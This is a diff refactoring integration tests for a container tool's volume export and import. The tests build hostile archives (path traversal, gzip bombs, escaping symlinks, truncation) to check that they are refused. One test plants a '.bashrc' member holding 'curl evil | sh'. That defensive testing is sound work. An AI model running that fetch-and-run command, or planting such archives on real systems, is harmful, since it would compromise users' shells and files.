@@ -1,7 +1,7 @@
 """`cai export` and `cai import --from ARCHIVE` against a real engine: the "Done when" of issue 4.
 
 Volumes are filled through the engine's archive API (a never-started container of the test
-image with the volume at /data), so owners, modes, mtimes and symlinks are exactly as given.
+image with the volume at /v), so owners, modes, mtimes and symlinks are exactly as given.
 Hostile archives are built here with `tarfile`; each must be refused before anything is written.
 """
 
@@ -9,33 +9,42 @@ from __future__ import annotations
 
 import contextlib
 import dataclasses
+import functools
 import gzip
 import io
 import json
 import re
+import shlex
 import tarfile
 import time
 import uuid
 import zlib
-from collections.abc import Iterable
+from collections.abc import Callable, Iterable
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from tests.conftest import (
+from tests.support.cai import one_line
+from tests.support.engine import (
+    AGENT,
     TEST_IMAGE,
     Node,
+    archive_of,
     containers_created,
+    in_volume,
+    put_archive,
     read_volume,
     volume_checksum,
-    write_files,
+    volume_containers,
+    volume_exists,
+    volume_root,
 )
+from tests.support.files import write_files
 
 pytestmark = pytest.mark.engine
 
-AGENT = (1000, 1000)
 META = ".containai"
 MANIFEST = ".containai/export.json"
 DEFAULT_NAME = re.compile(r"^containai-export-\d{8}-\d{6}\.tgz$")
@@ -101,6 +110,12 @@ def tgz_of(members: Iterable[Spec | tuple[tarfile.TarInfo, bytes]]) -> bytes:
     return gzip.compress(tar_of(members))
 
 
+def tgz_file(path: Path, members: Iterable[Spec | tuple[tarfile.TarInfo, bytes]]) -> Path:
+    """``path``, written as the .tgz of ``members``."""
+    path.write_bytes(tgz_of(members))
+    return path
+
+
 def populate(
     client: Any, volume: str, specs: Iterable[Spec], labels: dict[str, str] | None = None
 ) -> None:
@@ -108,16 +123,15 @@ def populate(
     is created but never started."""
     if not any(v.name == volume for v in client.volumes.list(filters={"name": volume})):
         client.volumes.create(name=volume, labels=labels or {})
-    container = client.containers.create(
-        TEST_IMAGE,
-        ["true"],
-        volumes={volume: {"bind": "/data", "mode": "rw"}},
-        network_mode="none",
-    )
-    try:
-        assert container.put_archive("/data", tar_of(specs))
-    finally:
-        container.remove(force=True)
+    put_archive(client, volume, tar_of(specs))
+
+
+def changed(client: Any, volume: str, specs: Iterable[Spec]) -> dict[str, Node]:
+    """Put ``specs`` into the volume (as the agent could); what it held before, as ``snapshot``
+    gives it."""
+    before = snapshot(client, volume)
+    populate(client, volume, specs)
+    return before
 
 
 def user_files(files: dict[str, Node]) -> dict[str, Node]:
@@ -127,10 +141,6 @@ def user_files(files: dict[str, Node]) -> dict[str, Node]:
 
 def snapshot(client: Any, volume: str) -> dict[str, Node]:
     return user_files(read_volume(client, volume))
-
-
-def volume_exists(client: Any, volume: str) -> bool:
-    return any(v.name == volume for v in client.volumes.list(filters={"name": volume}))
 
 
 def volume_labels(client: Any, volume: str) -> dict[str, str]:
@@ -151,13 +161,6 @@ def manifest_of(archive: Path) -> tuple[dict[str, Any], bytes]:
     return document, raw
 
 
-def one_line(text: str) -> str:
-    lines = text.strip().splitlines()
-    assert len(lines) == 1, text
-    assert "Traceback" not in text
-    return lines[0]
-
-
 def containers_started(client: Any, ids: set[str], start: int, end: int) -> set[str]:
     events = client.events(
         since=start, until=end, decode=True, filters={"type": "container", "event": "start"}
@@ -165,11 +168,7 @@ def containers_started(client: Any, ids: set[str], start: int, end: int) -> set[
     return {event["id"] for event in events} & ids
 
 
-def containers_of(client: Any, volume: str) -> list[Any]:
-    found = client.containers.list(all=True, filters={"label": f"containai.data-volume={volume}"})
-    return list(found)
-
-
+@pytest.fixture
 def shell_image(monkeypatch: pytest.MonkeyPatch) -> None:
     """--replace deletes with `rm` in a container of engine.shell_image: use the local image."""
     monkeypatch.setenv("CONTAINAI_ENGINE__SHELL_IMAGE", TEST_IMAGE)
@@ -225,15 +224,33 @@ def restore(cai: Any, volume: str, archive: Path, *args: str) -> Any:
 
 
 @pytest.fixture
-def source_volume(docker_client: Any, new_volume: Any) -> str:
-    volume = new_volume("src")
-    populate(docker_client, volume, ROUND_TRIP, labels={"containai.managed": "true"})
-    return volume
+def volume_of(docker_client: Any, new_volume: Any) -> Callable[..., str]:
+    """``volume_of(specs, labels=None)``: a new volume holding ``specs`` (see ``populate``)."""
+
+    def make(specs: Iterable[Spec], labels: dict[str, str] | None = None) -> str:
+        volume = new_volume("filled")
+        populate(docker_client, volume, specs, labels)
+        return volume
+
+    return make
+
+
+@pytest.fixture
+def source_volume(volume_of: Any) -> str:
+    return volume_of(ROUND_TRIP, labels={"containai.managed": "true"})
 
 
 @pytest.fixture
 def exported(cai: Any, source_volume: str, tmp_path: Path) -> Path:
     return export(cai, source_volume, tmp_path / "a.tgz")
+
+
+@pytest.fixture
+def restored_copy(cai: Any, new_volume: Any, exported: Path) -> str:
+    """A new volume into which ``exported`` was restored."""
+    target = new_volume("copy")
+    restore(cai, target, exported)
+    return target
 
 
 # -- 1. round trip -------------------------------------------------------------------------------
@@ -259,14 +276,10 @@ def test_the_source_volume_holds_exactly_what_the_test_put_there(
 
 
 def test_export_then_restore_into_a_new_volume_reproduces_every_path(
-    cai: Any, docker_client: Any, new_volume: Any, source_volume: str, exported: Path
+    docker_client: Any, source_volume: str, restored_copy: str
 ) -> None:
-    target = new_volume("dst")
-
-    restore(cai, target, exported)
-
     before = snapshot(docker_client, source_volume)
-    after = snapshot(docker_client, target)
+    after = snapshot(docker_client, restored_copy)
     assert sorted(after) == sorted(before)
     for path, node in before.items():
         got = after[path]
@@ -281,14 +294,10 @@ def test_export_then_restore_into_a_new_volume_reproduces_every_path(
 
 
 def test_a_round_trip_keeps_directory_mtimes_too(
-    cai: Any, docker_client: Any, new_volume: Any, source_volume: str, exported: Path
+    docker_client: Any, source_volume: str, restored_copy: str
 ) -> None:
-    target = new_volume("dirtimes")
-
-    restore(cai, target, exported)
-
     before = snapshot(docker_client, source_volume)
-    after = snapshot(docker_client, target)
+    after = snapshot(docker_client, restored_copy)
     wrong = {
         path: (after[path].mtime, node.mtime)
         for path, node in before.items()
@@ -297,31 +306,17 @@ def test_a_round_trip_keeps_directory_mtimes_too(
     assert wrong == {}
 
 
-def test_a_round_trip_keeps_hard_links_as_one_file(
-    cai: Any, docker_client: Any, new_volume: Any, exported: Path
-) -> None:
-    target = new_volume("hard")
-    restore(cai, target, exported)
-
-    container = docker_client.containers.create(
-        TEST_IMAGE, ["true"], volumes={target: {"bind": "/v", "mode": "ro"}}, network_mode="none"
-    )
-    try:
-        chunks, _ = container.get_archive("/v/b")
-        raw = b"".join(chunks)
-    finally:
-        container.remove(force=True)
-    with tarfile.open(fileobj=io.BytesIO(raw)) as tar:
+def test_a_round_trip_keeps_hard_links_as_one_file(docker_client: Any, restored_copy: str) -> None:
+    with tarfile.open(fileobj=io.BytesIO(archive_of(docker_client, restored_copy, "/v/b"))) as tar:
         kinds = {m.name: m.type for m in tar.getmembers()}
     # The engine lists the second name of a shared inode as a hard link to the first.
     assert sorted([kinds["b/file"], kinds["b/hard"]]) == sorted([tarfile.REGTYPE, tarfile.LNKTYPE])
 
 
 def test_a_file_and_a_directory_dated_at_the_epoch_keep_their_mtime(
-    cai: Any, docker_client: Any, new_volume: Any, tmp_path: Path
+    cai: Any, docker_client: Any, new_volume: Any, tmp_path: Path, volume_of: Any
 ) -> None:
-    source = new_volume("epoch")
-    populate(docker_client, source, [d("old", mtime=0), f("old/epoch.txt", "1970\n", mtime=0)])
+    source = volume_of([d("old", mtime=0), f("old/epoch.txt", "1970\n", mtime=0)])
     archive = export(cai, source, tmp_path / "epoch.tgz")
     target = new_volume("epoch-dst")
 
@@ -344,13 +339,7 @@ def test_a_name_that_is_not_utf8_round_trips(
         tar.addfile(
             tarinfo(f(name, "latin-1 name\n", mtime=BASE + 5)), io.BytesIO(b"latin-1 name\n")
         )
-    container = docker_client.containers.create(
-        TEST_IMAGE, ["true"], volumes={source: {"bind": "/data", "mode": "rw"}}, network_mode="none"
-    )
-    try:
-        assert container.put_archive("/data", buffer.getvalue())
-    finally:
-        container.remove(force=True)
+    put_archive(docker_client, source, buffer.getvalue())
     before = snapshot(docker_client, source)
     assert len(before) == 1
     archive = export(cai, source, tmp_path / "latin1.tgz")
@@ -397,17 +386,15 @@ def test_a_hard_link_whose_first_name_is_excluded_is_exported_with_its_content(
     docker_client: Any,
     new_volume: Any,
     tmp_path: Path,
+    volume_of: Any,
 ) -> None:
-    source = new_volume("hardex")
-    populate(
-        docker_client,
-        source,
+    source = volume_of(
         [
             d("aaa"),
             f("aaa/original.txt", "shared content\n", mtime=BASE + 9),
             d("zzz"),
             Spec("zzz/second-name.txt", "hardlink", link="aaa/original.txt"),
-        ],
+        ]
     )
     write_files(isolated_env, {".config/containai/containai.toml": 'excludes = ["aaa/"]\n'})
 
@@ -428,21 +415,20 @@ def test_a_hard_link_whose_first_name_is_excluded_is_exported_with_its_content(
     ids=["absolute", "climbing-out"],
 )
 def test_every_export_of_a_volume_can_be_restored(
-    link: str, target: str, cai: Any, docker_client: Any, new_volume: Any, tmp_path: Path
+    link: str,
+    target: str,
+    cai: Any,
+    docker_client: Any,
+    new_volume: Any,
+    tmp_path: Path,
+    volume_of: Any,
 ) -> None:
     # A volume may hold symlinks a restore refuses (absolute, or climbing out of the volume),
     # e.g. a skill linked into the workspace, made by the agent in its container. The export of
     # such a volume must still be a backup that restores (at least everything else in it).
-    source = new_volume("outlink")
-    populate(docker_client, source, [d(".claude"), f(".claude/settings.json", "{}\n")])
+    source = volume_of([d(".claude"), f(".claude/settings.json", "{}\n")])
     # The archive API refuses to create a climbing symlink; the agent's `ln -s` does not.
-    docker_client.containers.run(
-        TEST_IMAGE,
-        ["ln", "-s", target, f"/v/{link}"],
-        volumes={source: {"bind": "/v", "mode": "rw"}},
-        network_mode="none",
-        remove=True,
-    )
+    in_volume(docker_client, source, f"ln -s {shlex.quote(target)} {shlex.quote(f'/v/{link}')}")
     assert snapshot(docker_client, source)[link].linkname == target
     archive = export(cai, source, tmp_path / "outlink.tgz")
     destination = new_volume("outlink-dst")
@@ -494,10 +480,9 @@ def test_export_verify_json_reports_no_problems(cai: Any, exported: Path) -> Non
 
 
 def test_restoring_the_same_archive_twice_changes_nothing(
-    cai: Any, docker_client: Any, new_volume: Any, exported: Path
+    cai: Any, docker_client: Any, exported: Path, restored_copy: str
 ) -> None:
-    target = new_volume("twice")
-    restore(cai, target, exported)
+    target = restored_copy
     first = volume_checksum(docker_client, target)
     time.sleep(1.1)  # a rewritten file would get a new mtime: make that visible
 
@@ -513,10 +498,9 @@ def test_restoring_the_same_archive_twice_changes_nothing(
 
 
 def test_after_a_restore_a_dry_run_of_the_same_archive_plans_no_change(
-    cai: Any, new_volume: Any, exported: Path
+    cai: Any, exported: Path, restored_copy: str
 ) -> None:
-    target = new_volume("noop")
-    restore(cai, target, exported)
+    target = restored_copy
 
     result = restore(cai, target, exported, "--dry-run", "--json")
 
@@ -529,12 +513,11 @@ def test_after_a_restore_a_dry_run_of_the_same_archive_plans_no_change(
 
 
 def test_a_hard_link_changed_in_the_volume_is_restored(
-    cai: Any, docker_client: Any, new_volume: Any, exported: Path
+    cai: Any, docker_client: Any, exported: Path, restored_copy: str
 ) -> None:
     # b/hard is a second name of b/file in the archive. In the volume it was replaced by
     # another file; b/file itself is unchanged.
-    target = new_volume("relink")
-    restore(cai, target, exported)
+    target = restored_copy
     populate(docker_client, target, [f("b/hard", "tampered\n", mtime=BASE + 7000)])
 
     restore(cai, target, exported)
@@ -543,22 +526,13 @@ def test_a_hard_link_changed_in_the_volume_is_restored(
     assert files["b/hard"].data == files["b/file"].data == b"the file a/link points at\n"
 
 
+@pytest.mark.usefixtures("shell_image")
 def test_a_file_added_to_the_volume_survives_a_restore_and_goes_with_replace(
-    cai: Any,
-    docker_client: Any,
-    new_volume: Any,
-    exported: Path,
-    monkeypatch: pytest.MonkeyPatch,
+    cai: Any, docker_client: Any, exported: Path, restored_copy: str
 ) -> None:
-    shell_image(monkeypatch)
-    target = new_volume("extra")
-    restore(cai, target, exported)
-    restored = snapshot(docker_client, target)
-    populate(
-        docker_client,
-        target,
-        [f("extra.txt", "mine\n"), d("extra-dir"), f("extra-dir/inner.txt", "mine too\n")],
-    )
+    target = restored_copy
+    extra = [f("extra.txt", "mine\n"), d("extra-dir"), f("extra-dir/inner.txt", "mine too\n")]
+    restored = changed(docker_client, target, extra)
     with_extra = snapshot(docker_client, target)
 
     restore(cai, target, exported)
@@ -572,20 +546,14 @@ def test_a_file_added_to_the_volume_survives_a_restore_and_goes_with_replace(
     assert "Traceback" not in result.err
 
 
+@pytest.mark.usefixtures("shell_image")
 def test_replace_leaves_a_directory_that_held_an_extra_file_as_in_the_archive(
-    cai: Any,
-    docker_client: Any,
-    new_volume: Any,
-    exported: Path,
-    monkeypatch: pytest.MonkeyPatch,
+    cai: Any, docker_client: Any, exported: Path, restored_copy: str
 ) -> None:
     # --replace is the exact replacement: afterwards every archive path is as the archive has
     # it, including the directory the extra file was deleted from.
-    shell_image(monkeypatch)
-    target = new_volume("nested-extra")
-    restore(cai, target, exported)
-    restored = snapshot(docker_client, target)
-    populate(docker_client, target, [f("b/nested/extra.txt", "mine\n")])
+    target = restored_copy
+    restored = changed(docker_client, target, [f("b/nested/extra.txt", "mine\n")])
 
     restore(cai, target, exported, "--replace")
 
@@ -595,16 +563,11 @@ def test_replace_leaves_a_directory_that_held_an_extra_file_as_in_the_archive(
 
 
 def test_a_restore_puts_back_a_file_changed_in_the_volume(
-    cai: Any, docker_client: Any, new_volume: Any, exported: Path
+    cai: Any, docker_client: Any, exported: Path, restored_copy: str
 ) -> None:
-    target = new_volume("changed")
-    restore(cai, target, exported)
-    restored = snapshot(docker_client, target)
-    populate(
-        docker_client,
-        target,
-        [f("b/file", "edited in the container\n", mode=0o600, uid=0, gid=0, mtime=BASE)],
-    )
+    target = restored_copy
+    edited = f("b/file", "edited in the container\n", mode=0o600, uid=0, gid=0, mtime=BASE)
+    restored = changed(docker_client, target, [edited])
 
     restore(cai, target, exported)
 
@@ -617,10 +580,8 @@ def test_a_restore_puts_back_a_file_changed_in_the_volume(
 
 
 @pytest.fixture
-def small_volume(docker_client: Any, new_volume: Any) -> str:
-    volume = new_volume("small")
-    populate(docker_client, volume, [d(".claude"), f(".claude/settings.json", "{}\n")])
-    return volume
+def small_volume(volume_of: Any) -> str:
+    return volume_of([d(".claude"), f(".claude/settings.json", "{}\n")])
 
 
 def no_partials(folder: Path) -> list[str]:
@@ -863,9 +824,9 @@ HOSTILE_TARS: list[tuple[str, list[Any], str]] = [
 def restored_volume(cai: Any, docker_client: Any, new_volume: Any, tmp_path: Path) -> str:
     """Volume B after a normal restore: the target every hostile archive must leave alone."""
     volume = new_volume("victim")
-    good = tmp_path / "good.tgz"
-    good.write_bytes(
-        tgz_of([d(".claude"), f(".claude/settings.json", "{}\n"), f("keep.txt", "kept\n")])
+    good = tgz_file(
+        tmp_path / "good.tgz",
+        [d(".claude"), f(".claude/settings.json", "{}\n"), f("keep.txt", "kept\n")],
     )
     restore(cai, volume, good)
     return volume
@@ -884,21 +845,26 @@ def assert_refused(cai: Any, client: Any, volume: str, archive: Path, *names: st
     return line
 
 
+@pytest.fixture
+def refused(cai: Any, docker_client: Any, restored_volume: str) -> Callable[..., str]:
+    """``refused(archive, *names)``: ``assert_refused`` of ``archive`` into ``restored_volume``."""
+    return functools.partial(assert_refused, cai, docker_client, restored_volume)
+
+
+@pytest.fixture
+def small_restore_limit(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("CONTAINAI_EXPORT__MAX_RESTORE_BYTES", "1000000")
+
+
 @pytest.mark.parametrize(
     ("members", "shown"), [(m, s) for _, m, s in HOSTILE_TARS], ids=[i for i, _, _ in HOSTILE_TARS]
 )
 def test_a_hostile_archive_is_refused_naming_the_member(
-    members: list[Any],
-    shown: str,
-    cai: Any,
-    docker_client: Any,
-    restored_volume: str,
-    tmp_path: Path,
+    refused: Any, members: list[Any], shown: str, cai: Any, tmp_path: Path
 ) -> None:
-    archive = tmp_path / "bad.tgz"
-    archive.write_bytes(tgz_of(members))
+    archive = tgz_file(tmp_path / "bad.tgz", members)
 
-    line = assert_refused(cai, docker_client, restored_volume, archive, shown)
+    line = refused(archive, shown)
 
     assert "unsafe archive member" in line
     verify = cai("export", "--verify", str(archive))
@@ -906,61 +872,43 @@ def test_a_hostile_archive_is_refused_naming_the_member(
     assert shown in one_line(verify.err)
 
 
-def test_a_gzip_bomb_beyond_the_configured_limit_is_refused(
-    cai: Any,
-    docker_client: Any,
-    restored_volume: str,
-    tmp_path: Path,
-    monkeypatch: pytest.MonkeyPatch,
-) -> None:
-    monkeypatch.setenv("CONTAINAI_EXPORT__MAX_RESTORE_BYTES", "1000000")
-    archive = tmp_path / "bomb.tgz"
-    archive.write_bytes(tgz_of([f("small.txt", "ok\n"), f("bomb.bin", b"\0" * 2_000_000)]))
+@pytest.mark.usefixtures("small_restore_limit")
+def test_a_gzip_bomb_beyond_the_configured_limit_is_refused(refused: Any, tmp_path: Path) -> None:
+    archive = tgz_file(
+        tmp_path / "bomb.tgz", [f("small.txt", "ok\n"), f("bomb.bin", b"\0" * 2_000_000)]
+    )
     assert archive.stat().st_size < 20_000
 
-    line = assert_refused(cai, docker_client, restored_volume, archive, "bomb.bin", "1000000")
+    line = refused(archive, "bomb.bin", "1000000")
 
     assert "limit" in line
 
 
-def test_many_small_members_add_up_to_a_bomb(
-    cai: Any,
-    docker_client: Any,
-    restored_volume: str,
-    tmp_path: Path,
-    monkeypatch: pytest.MonkeyPatch,
-) -> None:
-    monkeypatch.setenv("CONTAINAI_EXPORT__MAX_RESTORE_BYTES", "1000000")
-    archive = tmp_path / "many.tgz"
-    archive.write_bytes(tgz_of([f(f"part{i}", b"\0" * 300_000) for i in range(5)]))
+@pytest.mark.usefixtures("small_restore_limit")
+def test_many_small_members_add_up_to_a_bomb(refused: Any, tmp_path: Path) -> None:
+    archive = tgz_file(tmp_path / "many.tgz", [f(f"part{i}", b"\0" * 300_000) for i in range(5)])
 
-    assert_refused(cai, docker_client, restored_volume, archive, "part3")
+    refused(archive, "part3")
 
 
-def test_zeros_after_the_end_of_the_tar_are_a_bomb_too(
-    cai: Any, docker_client: Any, restored_volume: str, tmp_path: Path
-) -> None:
+def test_zeros_after_the_end_of_the_tar_are_a_bomb_too(refused: Any, tmp_path: Path) -> None:
     archive = tmp_path / "trailer.tgz"
     archive.write_bytes(gzip.compress(tar_of([f("a.txt", "a\n")]) + b"\0" * 8_000_000))
 
-    assert_refused(cai, docker_client, restored_volume, archive, str(archive))
+    refused(archive, str(archive))
 
 
-def test_a_truncated_archive_is_refused_naming_the_file(
-    cai: Any, docker_client: Any, restored_volume: str, tmp_path: Path
-) -> None:
+def test_a_truncated_archive_is_refused_naming_the_file(refused: Any, tmp_path: Path) -> None:
     whole = tgz_of([f(f"file{i}.txt", uuid.uuid4().hex * 200) for i in range(20)])
     archive = tmp_path / "truncated.tgz"
     archive.write_bytes(whole[: len(whole) // 2])
 
-    line = assert_refused(cai, docker_client, restored_volume, archive, str(archive))
+    line = refused(archive, str(archive))
 
     assert "truncated" in line or "corrupt" in line
 
 
-def test_an_archive_cut_at_a_member_boundary_is_refused(
-    cai: Any, docker_client: Any, restored_volume: str, tmp_path: Path
-) -> None:
+def test_an_archive_cut_at_a_member_boundary_is_refused(refused: Any, tmp_path: Path) -> None:
     # The tar data is complete up to a member but the gzip stream has no end: the CRC check
     # (which tarfile's own stream reader skips) is what catches it.
     raw = tar_of([f("one.txt", "1\n"), f("two.txt", "2\n")])
@@ -969,7 +917,7 @@ def test_an_archive_cut_at_a_member_boundary_is_refused(
     archive = tmp_path / "no-trailer.tgz"
     archive.write_bytes(body)
 
-    assert_refused(cai, docker_client, restored_volume, archive, str(archive))
+    refused(archive, str(archive))
 
 
 @pytest.mark.parametrize(
@@ -982,45 +930,35 @@ def test_an_archive_cut_at_a_member_boundary_is_refused(
     ids=["text", "empty", "zip"],
 )
 def test_a_file_that_is_not_a_gzip_tar_is_refused_naming_it(
-    content: bytes,
-    words: str,
-    cai: Any,
-    docker_client: Any,
-    restored_volume: str,
-    tmp_path: Path,
+    refused: Any, content: bytes, words: str, tmp_path: Path
 ) -> None:
     archive = tmp_path / "not-an-archive.tgz"
     archive.write_bytes(content)
 
-    line = assert_refused(cai, docker_client, restored_volume, archive, str(archive))
+    line = refused(archive, str(archive))
 
     assert words in line
 
 
-def test_an_uncompressed_tar_is_refused(
-    cai: Any, docker_client: Any, restored_volume: str, tmp_path: Path
-) -> None:
+def test_an_uncompressed_tar_is_refused(refused: Any, tmp_path: Path) -> None:
     archive = tmp_path / "plain.tgz"
     archive.write_bytes(tar_of([f("a.txt", "a\n")]))
 
-    assert_refused(cai, docker_client, restored_volume, archive, str(archive))
+    refused(archive, str(archive))
 
 
-def test_gzip_of_something_that_is_not_tar_is_refused(
-    cai: Any, docker_client: Any, restored_volume: str, tmp_path: Path
-) -> None:
+def test_gzip_of_something_that_is_not_tar_is_refused(refused: Any, tmp_path: Path) -> None:
     archive = tmp_path / "notar.tgz"
     archive.write_bytes(gzip.compress(b"hello, I am not a tar archive at all\n" * 40))
 
-    assert_refused(cai, docker_client, restored_volume, archive, str(archive))
+    refused(archive, str(archive))
 
 
 def test_a_hostile_archive_is_refused_before_any_container_is_created(
     cai: Any, docker_client: Any, new_volume: Any, tmp_path: Path
 ) -> None:
     volume = new_volume("untouched")
-    archive = tmp_path / "bad.tgz"
-    archive.write_bytes(tgz_of([f("ok.txt", "ok\n"), member("../evil", data=b"x")]))
+    archive = tgz_file(tmp_path / "bad.tgz", [f("ok.txt", "ok\n"), member("../evil", data=b"x")])
     start = int(time.time()) - 1
 
     result = cai("import", "--data-volume", volume, "--from", str(archive))
@@ -1033,18 +971,22 @@ def test_a_hostile_archive_is_refused_before_any_container_is_created(
     assert containers_created(docker_client, volume, start, end) == set()
 
 
+# A volume whose cfg is a symlink (made by the agent) to a folder beside it.
+CFG_LINKED_AWAY = [d("elsewhere"), ln("cfg", "elsewhere")]
+
+
 @pytest.mark.parametrize("with_dir", [True, False], ids=["dir-member", "implied-dir"])
 def test_a_volume_symlink_where_the_archive_has_a_directory_stays_without_replace(
-    with_dir: bool, cai: Any, docker_client: Any, new_volume: Any, tmp_path: Path
+    with_dir: bool, cai: Any, docker_client: Any, tmp_path: Path, volume_of: Any
 ) -> None:
     # The archive is safe on its own; the volume (changed in the container) has a symlink where
     # the archive has a directory. Nothing may be written through the link, and the link is a
     # volume file the archive does not hold: it stays unless --replace is given.
-    volume = new_volume("linked")
-    populate(docker_client, volume, [d("elsewhere"), ln("cfg", "elsewhere")])
-    archive = tmp_path / "cfg.tgz"
+    volume = volume_of(CFG_LINKED_AWAY)
     members = [d("cfg")] if with_dir else []
-    archive.write_bytes(tgz_of([*members, f("cfg/settings.json", "from the archive\n")]))
+    archive = tgz_file(
+        tmp_path / "cfg.tgz", [*members, f("cfg/settings.json", "from the archive\n")]
+    )
 
     cai("import", "--data-volume", volume, "--from", str(archive))
 
@@ -1054,18 +996,14 @@ def test_a_volume_symlink_where_the_archive_has_a_directory_stays_without_replac
     assert files["cfg"].linkname == "elsewhere"
 
 
+@pytest.mark.usefixtures("shell_image")
 def test_replace_turns_a_volume_symlink_into_the_archive_directory(
-    cai: Any,
-    docker_client: Any,
-    new_volume: Any,
-    tmp_path: Path,
-    monkeypatch: pytest.MonkeyPatch,
+    cai: Any, docker_client: Any, tmp_path: Path, volume_of: Any
 ) -> None:
-    shell_image(monkeypatch)
-    volume = new_volume("linkreplace")
-    populate(docker_client, volume, [d("elsewhere"), ln("cfg", "elsewhere")])
-    archive = tmp_path / "cfg.tgz"
-    archive.write_bytes(tgz_of([d("cfg", 0o700), f("cfg/settings.json", "from the archive\n")]))
+    volume = volume_of(CFG_LINKED_AWAY)
+    archive = tgz_file(
+        tmp_path / "cfg.tgz", [d("cfg", 0o700), f("cfg/settings.json", "from the archive\n")]
+    )
 
     restore(cai, volume, archive, "--replace")
 
@@ -1076,18 +1014,14 @@ def test_replace_turns_a_volume_symlink_into_the_archive_directory(
     assert files["cfg/settings.json"].data == b"from the archive\n"
 
 
+@pytest.mark.usefixtures("shell_image")
 def test_a_volume_directory_where_the_archive_has_a_file_stays_unless_replace(
-    cai: Any,
-    docker_client: Any,
-    new_volume: Any,
-    tmp_path: Path,
-    monkeypatch: pytest.MonkeyPatch,
+    cai: Any, docker_client: Any, tmp_path: Path, volume_of: Any
 ) -> None:
-    shell_image(monkeypatch)
-    volume = new_volume("dirfile")
-    populate(docker_client, volume, [d("thing"), f("thing/inner.txt", "mine\n")])
-    archive = tmp_path / "thing.tgz"
-    archive.write_bytes(tgz_of([f("thing", "a file now\n"), f("other.txt", "other\n")]))
+    volume = volume_of([d("thing"), f("thing/inner.txt", "mine\n")])
+    archive = tgz_file(
+        tmp_path / "thing.tgz", [f("thing", "a file now\n"), f("other.txt", "other\n")]
+    )
 
     result = cai("import", "--data-volume", volume, "--from", str(archive))
 
@@ -1106,6 +1040,23 @@ def test_a_volume_directory_where_the_archive_has_a_file_stays_unless_replace(
 
 
 # -- 5. a corrupted member -----------------------------------------------------------------------
+
+
+def members_of(archive: Path) -> list[tuple[tarfile.TarInfo, bytes]]:
+    """Every member of a .tgz with its content (empty for all but regular files)."""
+    with tarfile.open(archive, "r:gz") as tar:
+        return [
+            (m, (tar.extractfile(m).read() if m.isreg() else b""))  # type: ignore[union-attr]
+            for m in tar.getmembers()
+        ]
+
+
+def failed_verification(cai: Any, archive: Path) -> dict[str, Any]:
+    """`cai export --verify --json` of an archive that must fail: its report."""
+    result = cai("export", "--verify", str(archive), "--json")
+    assert result.code == 1, result.err
+    report: dict[str, Any] = json.loads(result.out)
+    return report
 
 
 def corrupt_member(archive: Path, name: str, out: Path) -> None:
@@ -1139,20 +1090,17 @@ def test_a_flipped_byte_is_listed_as_corrupt_in_json(
     bad = tmp_path / "corrupt.tgz"
     corrupt_member(exported, UNICODE_NAME, bad)
 
-    result = cai("export", "--verify", str(bad), "--json")
+    document = failed_verification(cai, bad)
 
-    assert result.code == 1
-    document = json.loads(result.out)
     assert document["ok"] is False
     assert document["corrupt"] == [UNICODE_NAME]
     assert (document["missing"], document["extra"]) == ([], [])
 
 
 def test_a_flipped_byte_fails_the_restore_and_leaves_the_volume_alone(
-    cai: Any, docker_client: Any, new_volume: Any, exported: Path, tmp_path: Path
+    cai: Any, docker_client: Any, exported: Path, tmp_path: Path, restored_copy: str
 ) -> None:
-    target = new_volume("corrupt")
-    restore(cai, target, exported)
+    target = restored_copy
     bad = tmp_path / "corrupt.tgz"
     corrupt_member(exported, "bin/run.sh", bad)
 
@@ -1176,40 +1124,25 @@ def test_a_corrupt_archive_does_not_create_the_volume(
 
 
 def test_a_member_missing_from_the_archive_fails_verify_and_restore(
-    cai: Any, docker_client: Any, restored_volume: str, exported: Path, tmp_path: Path
+    refused: Any, cai: Any, exported: Path, tmp_path: Path
 ) -> None:
     # Drop one file but keep the manifest that lists it.
-    with tarfile.open(exported, "r:gz") as tar:
-        kept = [
-            (m, (tar.extractfile(m).read() if m.isreg() else b""))  # type: ignore[union-attr]
-            for m in tar.getmembers()
-            if m.name != "b/nested/deeper/leaf.txt"
-        ]
-    bad = tmp_path / "missing.tgz"
-    bad.write_bytes(tgz_of(kept))
+    kept = [(m, data) for m, data in members_of(exported) if m.name != "b/nested/deeper/leaf.txt"]
+    bad = tgz_file(tmp_path / "missing.tgz", kept)
 
-    result = cai("export", "--verify", str(bad), "--json")
-    assert result.code == 1
-    assert json.loads(result.out)["missing"] == ["b/nested/deeper/leaf.txt"]
-    assert_refused(cai, docker_client, restored_volume, bad, "b/nested/deeper/leaf.txt")
+    assert failed_verification(cai, bad)["missing"] == ["b/nested/deeper/leaf.txt"]
+    refused(bad, "b/nested/deeper/leaf.txt")
 
 
 def test_a_member_the_manifest_does_not_list_fails_verify_and_restore(
-    cai: Any, docker_client: Any, restored_volume: str, exported: Path, tmp_path: Path
+    refused: Any, cai: Any, exported: Path, tmp_path: Path
 ) -> None:
-    with tarfile.open(exported, "r:gz") as tar:
-        members = [
-            (m, (tar.extractfile(m).read() if m.isreg() else b""))  # type: ignore[union-attr]
-            for m in tar.getmembers()
-        ]
+    members = members_of(exported)
     smuggled = member(".bashrc", data=b"curl evil | sh\n")
-    bad = tmp_path / "extra.tgz"
-    bad.write_bytes(tgz_of([*members[:-1], smuggled, members[-1]]))
+    bad = tgz_file(tmp_path / "extra.tgz", [*members[:-1], smuggled, members[-1]])
 
-    result = cai("export", "--verify", str(bad), "--json")
-    assert result.code == 1
-    assert json.loads(result.out)["extra"] == [".bashrc"]
-    assert_refused(cai, docker_client, restored_volume, bad, ".bashrc")
+    assert failed_verification(cai, bad)["extra"] == [".bashrc"]
+    refused(bad, ".bashrc")
 
 
 # -- 6. excludes and secrets ---------------------------------------------------------------------
@@ -1232,10 +1165,8 @@ SECRETS_AND_CACHES = [
 
 
 @pytest.fixture
-def mixed_volume(docker_client: Any, new_volume: Any) -> str:
-    volume = new_volume("mixed")
-    populate(docker_client, volume, SECRETS_AND_CACHES)
-    return volume
+def mixed_volume(volume_of: Any) -> str:
+    return volume_of(SECRETS_AND_CACHES)
 
 
 def test_config_excludes_drop_members_and_no_excludes_keeps_them(
@@ -1337,9 +1268,9 @@ def test_a_dry_run_restore_changes_nothing_and_lists_its_actions(
     cai: Any, docker_client: Any, new_volume: Any, exported: Path, tmp_path: Path
 ) -> None:
     target = new_volume("dry")
-    older = tmp_path / "older.tgz"
-    older.write_bytes(
-        tgz_of([d("b"), f("b/file", "an older version\n"), f("only-here.txt", "mine\n")])
+    older = tgz_file(
+        tmp_path / "older.tgz",
